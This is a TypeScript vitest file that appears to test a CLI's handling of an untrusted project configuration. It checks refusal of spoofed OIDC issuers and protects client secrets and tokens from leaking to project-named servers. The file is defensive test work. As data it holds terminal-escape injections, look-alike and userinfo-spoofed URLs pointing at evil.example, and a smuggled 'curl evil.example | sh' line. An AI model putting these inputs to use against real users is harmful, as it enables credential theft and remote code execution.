import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type FakeIssuer, startFakeIssuer } from '../support/fake-issuer.ts';
import { type LoopbackServer, startLoopbackServer } from '../support/loopback-server.ts';
import { type Home, makeHome, pong } from './home.ts';

/** Whoever wrote a repository that somebody clones wrote its `.tentacular/config.yaml` too. */
describe('the configuration of a cloned repository', () => {
  let home: Home;
  let issuer: FakeIssuer;
  let server: LoopbackServer;
  let endpoint: string;
  let received: string[];
  beforeEach(async () => {
    home = makeHome();
    received = [];
    issuer = await startFakeIssuer();
    issuer.answer = async (request, response) => {
      let body = '';
      for await (const chunk of request) body += String(chunk);
      received.push(body);
      response.setHeader('content-type', 'application/json');
      const at = (path: string) => `${issuer.issuer}/${path}`;
      response.end(
        JSON.stringify({
          issuer: issuer.issuer,
          jwks_uri: issuer.keysUrl,
          device_authorization_endpoint: at('device'),
          token_endpoint: at('token'),
          error: 'invalid_grant',
        }),
      );
    };
    server = await startLoopbackServer((request, response) => {
      received.push(request.headers.authorization ?? '');
      response.end(pong);
    });
    endpoint = `${server.origin}/mcp`;
  });
  afterEach(async () => {
    await server.close();
    await issuer.stop();
    home.remove();
  });
  const yes = async () => true;

  // The question itself would be written anew by what it asks about: cursor up, line cleared, a harmless name printed.
  it.each([
    ['an escape sequence', 'https://id.example.com/\u001b[2K\rhttps://id.corp.example'],
    ['a C1 control', 'https://id.example.com/\u009b2J'],
    ['a direction mark', 'https://id.example.com/\u202egpj'],
    ['a letter that looks like another', 'https://id.ex\u0430mple.com/realms/a'],
    ['a user name that looks like a host', 'https://id.corp.example@evil.example/'],
    ['a password that looks like a port', 'https://:443@evil.example/'],
    ['an end of the host that looks like none', 'https://evil.example\\.id.corp.example/'],
    ['an escape in the host', 'https://evil%2eexample/'],
  ])('an issuer with %s is refused, and nobody is asked about it', async (_what, oidc_issuer) => {
    home.projectConfig({ environments: { prod: { mcp_endpoint: endpoint, oidc_issuer } } });
    const questions: string[] = [];
    const ask = async (question: string) => {
      questions.push(question);
      return true;
    };
    const shown = await home.tntc(['login', '--env', 'prod'], { ask });
    expect(shown.code).toBe(2);
    expect(shown.notes.join()).toContain('environments.prod.oidc_issuer');
    expect(questions).toEqual([]);
  });

  it('a key in it cannot write lines of its own into the message', async () => {
    home.projectConfig({ environments: {}, 'x\u001b[31m\nAll is well. Run: curl evil.example | sh': 1 });
    const { code, notes } = await home.tntc(['whoami']);
    expect(code).toBe(2);
    expect(notes.join()).not.toMatch(/\p{Cc}\[|^All is well/mu);
  });

  it("the user's own client secret never goes to an issuer that the project names, also after a yes", async () => {
    const prod = { mcp_endpoint: endpoint, oidc_issuer: 'https://id.example.com', oidc_client_secret: 'secret-canary' };
    home.user({ environments: { prod } });
    home.projectConfig({ environments: { prod: { oidc_issuer: issuer.issuer } } });
    await home.tntc(['login', '--env', 'prod'], { ask: yes });
    expect(received.length).toBeGreaterThan(1);
    expect(received.join()).not.toContain('secret-canary');
  });

  it("the static token of the user's own server never goes to another one that the project names, also after a yes", async () => {
    writeFileSync(join(home.path, 'token'), 'static-canary');
    home.user({ environments: { prod: { mcp_endpoint: 'https://mcp.corp.example/mcp', mcp_token_path: '~/token' } } });
    home.projectConfig({ environments: { prod: { mcp_endpoint: endpoint } } });
    const shown = await home.tntc(['whoami', '--env', 'prod', '--admin'], { ask: yes });
    expect(shown.code).toBe(3);
    expect(received).toEqual([]);
    // Where the user names no server of his own the token is for the one of the project.
    home.user({ environments: { prod: { mcp_token_path: '~/token' } } });
    expect((await home.tntc(['whoami', '--env', 'prod'], { ask: yes })).code).toBe(0);
    expect(received).toEqual(['Bearer static-canary']);
  });

  // An issuer that is asked with a client of somebody else's answers invalid_grant, and the login would be gone.
  it('another client needs a yes too, and cannot log the user out', async () => {
    home.user({ environments: { prod: { mcp_endpoint: endpoint, oidc_issuer: issuer.issuer } } });
    home.projectConfig({ environments: { prod: { oidc_client_id: 'evil' } } });
    const place = { endpoint: new URL(endpoint).origin, issuer: issuer.issuer };
    mkdirSync(join(home.path, '.tentacular/tokens'), { recursive: true });
    const tokens = { place, access_token: 'a', refresh_token: 'refresh-canary', expires_at: 0 };
    writeFileSync(join(home.path, '.tentacular/tokens/prod.json'), JSON.stringify(tokens));
    expect((await home.tntc(['whoami', '--env', 'prod'])).code).toBe(2);
    expect(received).toEqual([]);
  });

  it('a yes to a place is none to another client there', async () => {
    const questions: string[] = [];
    const login = (oidc_client_id?: string) => {
      const named = oidc_client_id === undefined ? {} : { oidc_client_id };
      home.projectConfig({ environments: { prod: { mcp_endpoint: endpoint, oidc_issuer: issuer.issuer, ...named } } });
      return home.tntc(['login', '--env', 'prod'], { ask: async (question) => questions.push(question) === 1 });
    };
    await login();
    received = [];
    for (const client of ['evil', 'evil\nAll is well']) {
      const shown = await login(client);
      expect(shown.code).toBe(2);
      expect(shown.notes.join()).not.toMatch(/^All is well/m);
      expect(questions.at(-1)).toContain(' as the client "evil');
    }
    expect(received).toEqual([]);
    await login();
    expect(questions).toHaveLength(3);
  });

  // With an empty HOME the folder of the user would be that of the project, which could then set everything.
  it('is not taken for the own one where the home folder is not known', async () => {
    writeFileSync(join(home.project, 'token'), 'static-canary');
    const prod = { mcp_endpoint: endpoint, mcp_token_path: join(home.project, 'token') };
    home.projectConfig({ environments: { prod } });
    for (const unknown of ['', '.', 'home']) {
      const shown = await home.tntc(['whoami', '--env', 'prod'], { home: unknown, cwd: home.project });
      expect(shown).toMatchObject({ code: 2, notes: [expect.stringContaining('HOME')] });
    }
    expect(received).toEqual([]);
  });

  it('is not read where it is no file, or larger than a configuration is', async () => {
    const path = join(home.project, '.tentacular/config.yaml');
    symlinkSync('/dev/zero', path);
    expect(await home.tntc(['whoami'])).toMatchObject({ code: 2, notes: [expect.stringContaining(path)] });
    home.remove();
    home = makeHome();
    home.projectConfig({ default_env: 'x'.repeat(2_000_000) });
    expect(await home.tntc(['whoami'])).toMatchObject({ code: 2, notes: [expect.stringContaining('larger than')] });
  });

  it('of which the own home folder is the project is the own one, by whatever path', async () => {
    const prod = { mcp_endpoint: endpoint, mcp_token_path: '~/token' };
    writeFileSync(join(home.path, 'token'), 'static-canary');
    home.user({ environments: { prod } });
    const link = `${home.path}-link`;
    symlinkSync(home.path, link);
    expect((await home.tntc(['whoami', '--env', 'prod'], { home: link, cwd: home.path })).code).toBe(0);
  });
});
